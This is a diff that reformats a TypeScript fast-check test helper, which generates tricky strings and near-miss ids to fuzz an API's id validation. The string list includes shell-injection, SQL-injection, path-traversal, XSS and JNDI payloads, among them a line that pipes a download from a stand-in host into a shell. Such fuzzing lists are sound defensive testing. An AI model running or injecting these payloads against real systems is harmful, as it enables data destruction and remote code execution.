@@ -6,12 +6,57 @@ import fc from 'fast-check'
  * shell and SQL metacharacters, path tricks, and long values.
  */
 export const trickyStrings: readonly string[] = [
-  '01', '1e0', ' 1', '1 ', '+1', '0x1', '1.0', '1.', '-1', '0', '00', '１', '1\n', '\t1', '1_000',
-  '9007199254740993', '99999999999999999999999', '1e309', 'NaN', 'Infinity', '-0',
-  '', ' ', '\u0000', '\u200b', 'null', 'undefined', 'true', '[]', '{}',
-  '$(reboot)', '`id`', '; rm -rf /', '&& curl evil.example | sh', '| true', "' OR 1=1 --", '"; DROP TABLE deployments; --',
-  '../../etc/passwd', '%00', '%2e%2e%2f', '<script>alert(1)</script>', '${jndi:ldap://x}', '\\', '\'', '"',
-  'ü', 'Ⅻ', '🚀', 'é'.normalize('NFD'), 'a'.repeat(300), 'x'.repeat(5_000),
+  '01',
+  '1e0',
+  ' 1',
+  '1 ',
+  '+1',
+  '0x1',
+  '1.0',
+  '1.',
+  '-1',
+  '0',
+  '00',
+  '１',
+  '1\n',
+  '\t1',
+  '1_000',
+  '9007199254740993',
+  '99999999999999999999999',
+  '1e309',
+  'NaN',
+  'Infinity',
+  '-0',
+  '',
+  ' ',
+  '\u0000',
+  '\u200b',
+  'null',
+  'undefined',
+  'true',
+  '[]',
+  '{}',
+  '$(reboot)',
+  '`id`',
+  '; rm -rf /',
+  '&& curl evil.example | sh',
+  '| true',
+  "' OR 1=1 --",
+  '"; DROP TABLE deployments; --',
+  '../../etc/passwd',
+  '%00',
+  '%2e%2e%2f',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://x}',
+  '\\',
+  "'",
+  '"',
+  'ü',
+  'Ⅻ',
+  '🚀',
+  'é'.normalize('NFD'),
+  'a'.repeat(300),
+  'x'.repeat(5_000),
 ]
 
 /** Any JSON value a client could send, small, with the tricky strings well represented. */
@@ -25,7 +70,14 @@ export const anyJsonValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 1, arbitrary: fc.boolean() },
   { weight: 1, arbitrary: fc.constant(null) },
   { weight: 1, arbitrary: fc.array(fc.oneof(fc.string({ maxLength: 10 }), fc.integer()), { maxLength: 3 }) },
-  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean()), { maxKeys: 3 }) },
+  {
+    weight: 1,
+    arbitrary: fc.dictionary(
+      fc.string({ maxLength: 8 }),
+      fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean()),
+      { maxKeys: 3 },
+    ),
+  },
 )
 
 /** Ways of writing an id that are not the id: padded, re-cased, re-numbered, look-alike. */
@@ -52,7 +104,13 @@ const NEAR_MISSES: ReadonlyArray<(id: string) => string> = [
 /** Near misses of the given valid ids (never one of them), besides tricky and arbitrary strings. */
 export function idLike(valid: readonly string[]): fc.Arbitrary<string> {
   const near = fc.tuple(fc.constantFrom(...valid), fc.constantFrom(...NEAR_MISSES)).map(([id, change]) => change(id))
-  return fc.oneof({ weight: 3, arbitrary: near }, { weight: 2, arbitrary: fc.constantFrom(...trickyStrings) }, { weight: 1, arbitrary: fc.string({ maxLength: 30 }) }).filter((id) => !valid.includes(id))
+  return fc
+    .oneof(
+      { weight: 3, arbitrary: near },
+      { weight: 2, arbitrary: fc.constantFrom(...trickyStrings) },
+      { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
+    )
+    .filter((id) => !valid.includes(id))
 }
 
 /** A deployment id exactly as the API gives them out: a positive whole number, no sign, no zero padding. */
